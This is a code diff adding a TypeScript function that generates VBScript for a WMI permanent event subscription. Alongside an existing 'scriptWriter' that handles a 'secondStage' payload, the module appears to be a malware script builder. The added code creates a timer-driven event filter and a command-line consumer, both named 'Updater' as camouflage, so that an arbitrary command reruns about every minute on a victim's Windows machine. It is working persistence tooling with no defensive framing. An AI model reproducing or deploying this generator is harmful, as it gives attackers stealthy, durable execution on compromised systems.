@@ -287,3 +287,19 @@ export function scriptWriter(secondStage: string, path: string): string {
     `CreateObject("Shell.Application").Open ${literal(path)}`,
   ].join('\r\n');
 }
+
+/** A WMI event subscription: a filter on a timer event, a command-line consumer, and their binding. */
+export function wmiSubscription(command: string): string {
+  return [
+    'Set svc = GetObject("winmgmts:\\\\.\\root\\subscription")',
+    'Set filter = svc.Get("__EventFilter").SpawnInstance_',
+    'filter.Name = "Updater" : filter.QueryLanguage = "WQL"',
+    'filter.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'"',
+    'Set fpath = filter.Put_',
+    'Set consumer = svc.Get("CommandLineEventConsumer").SpawnInstance_',
+    `consumer.Name = "Updater" : consumer.CommandLineTemplate = ${literal(command)}`,
+    'Set cpath = consumer.Put_',
+    'Set binding = svc.Get("__FilterToConsumerBinding").SpawnInstance_',
+    'binding.Filter = fpath : binding.Consumer = cpath : binding.Put_',
+  ].join('\r\n');
+}
